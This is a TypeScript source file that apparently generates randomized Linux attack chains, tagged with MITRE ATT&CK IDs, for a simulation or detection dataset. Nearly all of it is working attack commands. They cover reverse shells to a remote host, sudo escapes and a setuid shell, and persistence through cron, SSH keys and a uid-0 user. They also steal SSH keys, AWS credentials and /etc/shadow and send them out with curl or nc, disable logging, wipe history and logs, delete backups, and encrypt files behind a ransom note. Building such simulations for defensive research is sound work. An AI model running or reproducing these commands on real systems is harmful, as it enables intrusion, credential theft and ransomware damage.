import type { Draw } from '../draw.ts';
import type { Attack, Place } from '../scenario.ts';
import { behind, fetchTo, link, look, maybe, remote, root, workFolder, write } from '../ways.ts';
import { callOut, stayer } from './beacon.ts';

const SEARCH = [
  'id; groups',
  'sudo -n -l',
  'cat /etc/passwd | grep -v nologin',
  'ss -tlnp',
  'ps aux | head -30',
  'ls -la /home /opt /srv',
  'find /usr/bin -perm -4000 2>/dev/null',
  'cat /etc/crontab',
  'ip a; ip neigh',
  'last -n 4',
  'uname -a; cat /etc/os-release | head -2',
  'env | sort | head -20',
] as const;

function kept(draw: Draw, place: Place, program: string): readonly string[] {
  return draw.pick([
    [`(crontab -l 2>/dev/null; echo "*/${draw.int(1, 20)} * * * * ${program}") | crontab -`],
    [`echo '(${program} &) > /dev/null 2>&1' >> ~/.bashrc`],
    [
      `mkdir -p ~/.config/systemd/user; printf '[Service]\\nExecStart=%s\\n[Install]\\nWantedBy=default.target\\n' ${program} > ~/.config/systemd/user/${draw.word()}.service`,
    ],
    [root(place, `bash -c "printf '#!/bin/sh\\n${program} &\\n' > /etc/rc.local; chmod +x /etc/rc.local"`)],
    [
      `mkdir -p ~/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${draw.word()}${draw.int(1e6, 1e7)} ${draw.word()}" >> ~/.ssh/authorized_keys`,
    ],
    [root(place, `useradd -o -u 0 -g 0 -M -s /bin/bash ${draw.word().replace('-', '')}`)],
  ]);
}

function taken(draw: Draw, place: Place, folder: string): readonly string[] {
  const { host, port } = remote(draw, place);
  const out = `${folder}/${draw.word()}`;
  return [
    draw.pick([
      `cp ~/.ssh/id_* ~/.aws/credentials ~/.bash_history ${folder}/ 2>/dev/null`,
      `cat ~/.ssh/id_* ~/.aws/credentials > ${folder}/${draw.word()} 2>/dev/null`,
      `tar cf ${folder}/${draw.word()}.tar ~/Documents ~/.config 2>/dev/null`,
    ]),
    ...maybe(draw, 0.5, `${root(place, 'cat /etc/shadow')} > ${folder}/${draw.word()}`),
    draw.pick([
      `tar czf ${out} -C ${folder} --exclude=$(basename ${out}) . 2>/dev/null`,
      `tar cf - -C ${folder} . 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -k ${draw.word()} > /tmp/$$.o; mv /tmp/$$.o ${out}`,
    ]),
    draw.pick([
      `curl -s -T ${out} http://${host}:${port}/${draw.word()} > /dev/null`,
      `timeout 15 nc -q 1 ${host} ${port} < ${out} > /dev/null`,
      `curl -s -F a=@${out} http://${host}:${port}/ -o /dev/null`,
    ]),
  ];
}

function gone(draw: Draw, place: Place, folder: string): readonly string[] {
  return draw.some(
    [
      `rm -rf ${folder}`,
      'history -c',
      'rm -f ~/.bash_history',
      root(place, 'truncate -s 0 /var/log/auth.log'),
      root(place, `sed -i '/${place.user}/d' /var/log/auth.log`),
      'unset HISTFILE',
      `touch -r /etc/hostname ~/.bashrc`,
    ],
    draw.int(0, 3),
  );
}

/** Entry by a shell from elsewhere, then a search, a way back, and data that leave. */
const collector: Attack = {
  name: 'chain-to-exfiltration',
  family: 'chain-to-exfiltration',
  techniques: [
    'T1059.004',
    'T1082',
    'T1033',
    'T1057',
    'T1105',
    'T1053.003',
    'T1552.001',
    'T1552.004',
    'T1560.001',
    'T1041',
    'T1070.003',
  ],
  as: 'either',
  needs: ['curl', 'wget', 'python3', 'perl', 'nc', 'crontab', 'openssl', 'sudo', 'useradd'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const { extension, body } = stayer(draw, place);
    const program = `${folder}/${draw.word()}${extension}`;
    const { host, port } = remote(draw, place);
    return [
      draw.pick([
        `timeout 45 sh < /dev/tcp/${host}/${port}`,
        `timeout 45 nc ${host} ${port} | sh`,
        callOut(draw, place),
        `timeout 40 python3 -c "import socket,os,subprocess; s=socket.create_connection(('${host}',${port})); [os.dup2(s.fileno(),f) for f in (0,1,2)]; subprocess.call(['/bin/sh'])"`,
      ]),
      ...draw.some(SEARCH, draw.int(3, 6)),
      `mkdir -p ${folder}`,
      draw.chance(0.5) ? write(draw, program, body) : fetchTo(draw, link(draw, place, extension), program),
      `chmod +x ${program}`,
      behind(draw, program),
      ...kept(draw, place, program),
      ...taken(draw, place, draw.chance(0.6) ? folder : '/dev/shm'),
      ...gone(draw, place, folder),
    ];
  },
};

/** From an ordinary account to root, and staying there. */
const climber: Attack = {
  name: 'chain-to-root',
  family: 'chain-to-root',
  techniques: [
    'T1083',
    'T1548.001',
    'T1548.003',
    'T1003.008',
    'T1136.001',
    'T1543.002',
    'T1562.001',
    'T1070.002',
    'T1105',
    'T1036.005',
  ],
  as: 'user',
  needs: ['sudo', 'curl', 'wget', 'python3', 'perl', 'useradd', 'crontab', 'nc'],
  lines: (draw, place) => {
    const shell = `/var/tmp/${draw.chance(0.5) ? '.' : ''}${draw.word()}`;
    const program = `/usr/local/sbin/${draw.word()}`;
    const made = `/tmp/${draw.word()}`;
    const { body } = stayer(draw, place);
    return [
      ...draw.some(SEARCH, draw.int(2, 5)),
      draw.pick([
        'echo id | sudo -n awk \'BEGIN {system("/bin/sh")}\'',
        'sudo -n find /etc/hosts -exec /bin/sh -c id \\;',
        'echo id | sudo -n env /bin/sh',
      ]),
      `sudo -n cp /bin/bash ${shell}; sudo -n chmod 4755 ${shell}`,
      `${shell} -p -c 'id; head -3 /etc/shadow'`,
      draw.chance(0.5) ? write(draw, made, body) : fetchTo(draw, link(draw, place, '.sh'), made),
      `sudo -n install -m 755 ${made} ${program}`,
      ...kept(draw, place, program),
      ...maybe(draw, 0.7, `(sudo -n setsid ${program} > /dev/null 2>&1 &)`, `sleep ${draw.int(4, 15)}`),
      ...maybe(draw, 0.5, 'sudo -n systemctl stop rsyslog auditd'),
      ...maybe(
        draw,
        0.5,
        `sudo -n cat /etc/shadow | curl -s --data-binary @- ${link(draw, place, '')} > /dev/null`,
      ),
      ...gone(draw, place, made),
      ...maybe(draw, 0.3, `sudo -n rm -f ${shell}`),
    ];
  },
};

/** Look, take and make unreadable within minutes. */
const breaker: Attack = {
  name: 'chain-to-impact',
  family: 'chain-to-impact',
  techniques: [
    'T1105',
    'T1082',
    'T1046',
    'T1562.001',
    'T1489',
    'T1005',
    'T1041',
    'T1490',
    'T1486',
    'T1070.004',
  ],
  as: 'either',
  needs: ['curl', 'wget', 'openssl', 'nc', 'sudo'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const own = `${place.home}/${draw.word()}`;
    const extension = `.${draw.word()}`;
    return [
      `${draw.pick(['curl -s', 'wget -qO-'])} ${link(draw, place, '.sh')} | bash > /dev/null`,
      ...draw.some(SEARCH, draw.int(2, 4)),
      `for p in ${draw.some([22, 80, 445, 3306, 5432, 8080, ...place.peerPorts], 5).join(' ')}; do (timeout 1 bash -c "echo > /dev/tcp/${draw.pick(place.peers)}/$p") 2>/dev/null && echo $p; done`,
      ...maybe(
        draw,
        0.6,
        root(
          place,
          `systemctl stop ${draw.some(['mariadb', 'nginx', 'redis', 'cron', 'auditd', 'rsyslog'], 3).join(' ')}`,
        ),
      ),
      `mkdir -p ${folder} ${own}; cp /etc/*.conf ${own}/`,
      ...maybe(draw, 0.7, ...taken(draw, place, folder)),
      ...maybe(draw, 0.5, root(place, 'bash -c "rm -rf /srv/backup/* /var/backups/*"')),
      `find ${own} ${place.home}/Documents -type f 2>/dev/null | head -25 | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -iter 500 -k ${draw.word()} -in "$f" -out "$f${extension}" && ${draw.pick(['rm "$f"', 'shred -n 1 -u "$f"'])}; done`,
      ...maybe(
        draw,
        0.8,
        `echo "Your data are with us. Write to ${draw.word()}@${draw.word()}.org" > ~/${draw.pick(['README', 'NOTICE', 'RECOVER'])}.txt`,
      ),
      ...look(draw, draw.int(0, 2)),
      ...gone(draw, place, folder),
    ];
  },
};

export const CHAINS: readonly Attack[] = [collector, climber, breaker];
